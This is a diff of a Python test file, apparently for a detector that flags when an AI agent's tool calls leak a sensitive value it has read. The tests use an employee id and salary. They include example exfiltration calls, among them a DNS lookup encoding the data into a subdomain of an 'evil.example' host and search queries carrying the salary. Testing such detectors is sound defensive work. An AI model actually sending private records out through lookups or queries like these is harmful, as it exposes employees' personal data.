@@ -64,6 +64,8 @@ def last(folded: Any) -> Callable[..., Signal]:
         ("web.fetch", {"url": "http://[2001:db8::1]/?d=emp_9981x"}),
         ("dns.lookup", {"host": "emp_9981x-95000.evil.example"}),
         ("search.web", {"query": "emp_9981x salary 95000"}),
+        ("web_search_preview", {"query": "emp_9981x salary 95000"}),
+        ("search_the_internet", {"query": "emp_9981x salary 95000"}),
     ],
 )
 def test_a_value_of_a_sensitive_read_in_what_is_asked_outside_is_a_way_out(
@@ -84,6 +86,8 @@ def test_a_value_of_a_sensitive_read_in_what_is_asked_outside_is_a_way_out(
         ("web.fetch", {"url": "https://docs.example/payroll-2026"}),
         ("search.web", {"query": "salary bands of 2026"}),
         ("search.orders", {"query": "emp_9981x"}),
+        ("search_online_orders", {"query": "emp_9981x"}),
+        ("web_orders.find", {"query": "emp_9981x"}),
         ("hr.find", {"link": "emp_9981x", "note": URL}),
         ("tickets.update", {"url": URL}),
         ("http.get", {"url": "http://hr/payroll?of=emp_9981x"}),
@@ -167,6 +171,8 @@ def test_a_step_of_a_path_as_the_thing_itself_has_counts_half(act: Any, read: An
     whole = last(read(), act("http.get", {"url": URL})).value
     step = act("http.get", {"url": "https://acme.zendesk.com/people/EMP_9981x/notes?page=2"})
     assert last(read(), step).value == pytest.approx(whole / 2)
+    as_file = act("http.get", {"url": "https://acme.zendesk.com/people/emp_9981x.json"})
+    assert last(read(), as_file).value == pytest.approx(whole / 2)
 
 
 def test_a_place_is_told_nothing_by_its_own_name(act: Any, last: Any) -> None:
